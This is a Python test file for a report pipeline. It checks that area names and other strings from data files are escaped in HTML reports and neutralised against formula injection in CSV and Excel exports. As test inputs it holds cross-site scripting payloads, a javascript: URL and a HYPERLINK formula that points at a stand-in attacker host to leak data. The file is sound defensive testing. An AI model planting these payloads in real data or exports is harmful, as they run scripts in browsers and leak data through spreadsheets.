"""Strings from data files are text wherever they end up (issue 11): escaped in HTML reports,
neutralised in CSV and Excel exports, so a name in areas.csv can neither run a script in a
browser nor become a live formula in a spreadsheet."""

import csv
import io
import re

import openpyxl
import pandas as pd
import pytest

from nplv_analysis.pipeline.run import run_reports
from nplv_analysis.report.export import neutralise, write_tables

from .conftest import PROJECT, edit_yaml

MANIFEST = PROJECT / "notebooks" / "reports.yaml"
SCRIPT = "<script>alert(1)</script>"
IMG = '<img src=x onerror="alert(2)">'
FORMULA = '=HYPERLINK("http://evil.example/?leak=1","Arnhem Oost")'


def _rename_heerlen(data_dir, name):
    path = data_dir / "areas.csv"
    rows = list(csv.reader(path.read_text(encoding="utf-8").splitlines()))
    for row in rows:
        if row and row[0] == "heerlen-noord":
            row[1] = name
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\n").writerows(rows)
    path.write_text(buf.getvalue(), encoding="utf-8")


@pytest.fixture(scope="module")
def hostile_reports(tmp_path_factory):
    """The Heerlen Noord area report and mid-term review, from data whose area name and place
    of signing are HTML."""
    import shutil

    from .conftest import DATA

    root = tmp_path_factory.mktemp("xss")
    data_dir = root / "data"
    shutil.copytree(DATA, data_dir)
    _rename_heerlen(data_dir, f"Heerlen {SCRIPT} Noord")

    def place(obj):
        obj["signed"]["place"] = f"Utrecht {IMG}"

    edit_yaml(data_dir / "agreements" / "heerlen-noord.yaml", place)
    out = root / "reports"
    result = run_reports(MANIFEST, out, data_dir=data_dir, only=["heerlen-noord"], jobs=2)
    assert result.ok, result.summary()
    return out


def _unescaped_tags(html: str) -> list[str]:
    return re.findall(r"<script>alert|<img src=x onerror", html)


@pytest.mark.parametrize("name", ["area_report.html", "midterm-2027.html"])
def test_names_from_data_are_escaped_in_the_reports(hostile_reports, name):
    html = (hostile_reports / "heerlen-noord" / name).read_text(encoding="utf-8")
    assert _unescaped_tags(html) == []
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html  # shown as text, not dropped


def test_the_place_of_signing_is_escaped(hostile_reports):
    html = (hostile_reports / "heerlen-noord" / "area_report.html").read_text(encoding="utf-8")
    assert "Utrecht &lt;img src=x onerror=" in html


def test_source_addresses_are_links_only_for_http(hostile_reports):
    html = (hostile_reports / "heerlen-noord" / "area_report.html").read_text(encoding="utf-8")
    assert '<a href="https://www.heerlensdagblad.nl/gemeente/grote-kwaliteitsimpuls' in html


def test_a_javascript_address_is_no_link():
    from nplv_analysis.report.tables import styled

    table = pd.DataFrame({"URL": ["javascript:alert(1)", "https://example.org/?a=1&b=<2>"]})
    html = styled(table).to_html()
    assert 'href="javascript' not in html and ">javascript:alert(1)<" in html
    assert '<a href="https://example.org/?a=1&amp;b=&lt;2&gt;">' in html


def test_the_index_escapes_names(hostile_reports):
    html = (hostile_reports / "index.html").read_text(encoding="utf-8")
    assert _unescaped_tags(html) == []


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (FORMULA, "'" + FORMULA),
        ("+31 6 1234", "'+31 6 1234"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Heerlen Noord", "Heerlen Noord"),
        ("2025-2029", "2025-2029"),
        (-7000.0, -7000.0),  # numbers stay numbers
        (None, None),
    ],
)
def test_neutralise_follows_the_owasp_rule(value, expected):
    assert neutralise(value) == expected


def test_csv_and_excel_exports_hold_formulas_as_text(tmp_path):
    table = pd.DataFrame(
        {"name": [FORMULA, "Heerlen Noord"], "note": ["@cmd", "-"], "value": [-1.5, 2.0]}
    )
    paths = write_tables({"areas": table}, tmp_path, book="tables")
    text = (tmp_path / "areas.csv").read_text(encoding="utf-8")
    assert text.splitlines()[1].startswith("\"'=HYPERLINK(")
    assert ",-1.5\n" in text  # a negative number is not touched (and written exactly)
    book = openpyxl.load_workbook(tmp_path / "tables.xlsx")
    sheet = book["gebieden"]
    cell = sheet["A2"]
    assert cell.value == FORMULA and cell.data_type == "s"  # a string cell: shown as typed
    assert sheet["B2"].value == "@cmd" and sheet["B2"].data_type == "s"
    assert sheet["C2"].value == -1.5 and sheet["C2"].data_type == "n"
    assert {p.name for p in paths} == {"areas.csv", "tables.xlsx", "tables-codeboek.csv"}
    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)


def test_each_report_writes_its_own_workbook(tmp_path):
    write_tables({"funding": pd.DataFrame({"a": [1]})}, tmp_path, book="tables")
    write_tables({"midterm": pd.DataFrame({"b": [2]})}, tmp_path, book="midterm-2027")
    assert openpyxl.load_workbook(tmp_path / "tables.xlsx").sheetnames == ["financiering"]
    assert openpyxl.load_workbook(tmp_path / "midterm-2027.xlsx").sheetnames == ["mid-term review"]


def test_md_text_keeps_an_apostrophe_readable():
    # "risico's" became "risico&#x27;s" and then "risico&\#x27;s" (a broken entity) in reports
    from nplv_analysis.report.tables import md_text

    assert md_text("Twee risico's samen") == "Twee risico's samen"
    assert md_text('<b title="x">') == '&lt;b title="x"&gt;'


def test_md_text_makes_no_link_of_a_web_address():
    # a scenario named =HYPERLINK("http://evil.example","klik") became a link in the report
    from nbconvert.filters.markdown_mistune import markdown2html_mistune

    from nplv_analysis.report.tables import md_text

    name = '=HYPERLINK("http://evil.example","klik")'
    shown = markdown2html_mistune(f"**{md_text(name)}**")
    assert "<a " not in shown and "href" not in shown
    assert "<strong>=HYPERLINK(&quot;http://evil.example" in shown  # as text
